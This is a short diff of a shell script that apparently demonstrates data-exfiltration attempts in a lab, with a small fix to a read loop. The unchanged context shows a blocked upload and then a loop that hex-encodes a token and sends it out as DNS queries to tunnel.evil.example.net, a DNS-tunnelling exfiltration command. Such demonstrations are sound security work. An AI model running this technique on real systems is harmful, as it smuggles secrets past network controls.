@@ -56,7 +56,7 @@ echo "POST https://files.example.com/upload -> $code" | show
 no 'a key in the wrong place: blocked, and on the record'
 
 step 'I hide it in DNS labels instead.'
-printf %s "$LAB_TOKEN" | od -An -tx1 | tr -d ' \n' | fold -w 40 | while read -r part; do
+printf %s "$LAB_TOKEN" | od -An -tx1 | tr -d ' \n' | fold -w 40 | while read -r part || [ -n "$part" ]; do
 	dig +noall +comments +tries=1 +time=3 "$part.tunnel.evil.example.net" TXT 2>&1 |
 		sed -n "s/.*status: \([A-Z]*\).*/$part.tunnel.evil.example.net -> \1/p"
 done >"$DEMO_OUT/tunnel"
